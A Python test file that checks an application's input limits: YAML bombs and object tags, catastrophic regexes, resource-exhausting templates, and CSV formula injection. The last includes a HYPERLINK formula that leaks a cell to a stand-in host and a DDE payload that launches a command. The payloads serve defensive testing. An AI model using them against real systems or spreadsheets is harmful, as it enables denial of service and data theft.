"""The bounds on user input that the stall probes rely on, one by one."""

from __future__ import annotations

import csv
import io
import time

import pytest

from partitur.analytics.service import to_csv
from partitur.channels.contracts import TemplateIn
from partitur.channels.templates import TemplateBook, TemplateProblem
from partitur.core import safe_regex
from partitur.core.rules import TraitRule, compare
from partitur.core.safe_yaml import MAX_DEPTH, YamlRefused, load_yaml
from partitur.journey_maps.contracts import JourneyMapDocument
from partitur.journey_maps.io import document_from_csv, document_to_csv

#: ten aliases per level, six levels: a million values from 300 bytes
BOMB = "a: &a [1,1,1,1,1,1,1,1,1,1]\n" + "".join(
    f"{c}: &{c} [{','.join(['*' + p] * 10)}]\n" for p, c in zip("abcde", "bcdef", strict=True)
)
NESTED_LOOPS = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"


def test_yaml_keeps_plain_documents_and_shared_anchors() -> None:
    document = load_yaml("base: &b {wait: 1h}\nfirst: *b\nsecond: [1, 2]\n")
    assert document == {"base": {"wait": "1h"}, "first": {"wait": "1h"}, "second": [1, 2]}


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("a: " + "[" * (MAX_DEPTH + 1) + "]" * (MAX_DEPTH + 1), "nested deeper"),
        (BOMB, "expands"),
        ("x" * ((1 << 20) + 1), "at most"),
        ("a: b: c", "not valid YAML"),
        ("!!python/object:os.system {}", "not valid YAML"),
    ],
)
def test_yaml_refuses_bombs_depth_size_and_objects(text: str, reason: str) -> None:
    with pytest.raises(YamlRefused, match=reason):
        load_yaml(text)


def test_regex_rules_run_in_linear_time_and_refuse_backtracking_constructs() -> None:
    TraitRule(trait="nickname", op="matches", value="^(a+)+$")  # accepted
    started = time.perf_counter()
    assert not compare("a" * 5000 + "!", "matches", "^(a+)+$")
    assert time.perf_counter() - started < 0.05
    assert compare("aaa", "matches", "^(a+)+$")
    for pattern in ("^(a+)\\1$", "(?=a)b", "x" * (safe_regex.MAX_PATTERN_CHARS + 1)):
        with pytest.raises(ValueError, match="regular expression"):
            TraitRule(trait="nickname", op="matches", value=pattern)


def _render(body: str) -> str:
    book = TemplateBook(
        {("message", "m", "en"): TemplateIn(key="m", channel="sms", locale="en", body_text=body)}
    )
    return book.render("m", locale="en", context={"profile": {"first_name": "Anna"}}).text


def test_templates_compute_ordinary_figures_and_refuse_huge_ones() -> None:
    assert _render("{{ profile.first_name }}: {{ 2 ** 10 }}, {{ 'ab' * 2 }}") == "Anna: 1024, abab"
    for body, reason in [
        ("{% set b = 9**7 %}{{ 9**b }}", "power is too large"),
        ("{{ 'x' * 100000000 }}", "repetition is too long"),
        (NESTED_LOOPS, "at most 100,000 numbers"),
        ("{% for i in range(99999) %}{{ 'x' * 99 }}{% endfor %}", "longer than 1,000,000"),
    ]:
        with pytest.raises(TemplateProblem, match=reason):
            _render(body)


def test_csv_exports_quote_formulas_and_maps_read_them_back() -> None:
    text = to_csv(
        [
            {"group": '=HYPERLINK("http://x.example/?"&A1,"click")', "count": 3, "lift": -0.5},
            {"group": "-12.5", "count": -2, "lift": "@SUM(A1:A9)"},
        ]
    )
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["group"].startswith("'=HYPERLINK")
    assert (rows[0]["count"], rows[0]["lift"]) == ("3", "-0.5")  # numbers stay numbers
    assert (rows[1]["group"], rows[1]["lift"]) == ("-12.5", "'@SUM(A1:A9)")
    document = JourneyMapDocument.model_validate(
        {
            "key": "m",
            "name": "=cmd|' /C calc'!A0",
            "stages": [{"key": "awareness", "pain_points": [{"id": "p", "title": "+danger"}]}],
        }
    )
    exported = document_to_csv(document)
    assert ",'=cmd" in exported and ",'+danger" in exported
    assert document_from_csv(exported) == document
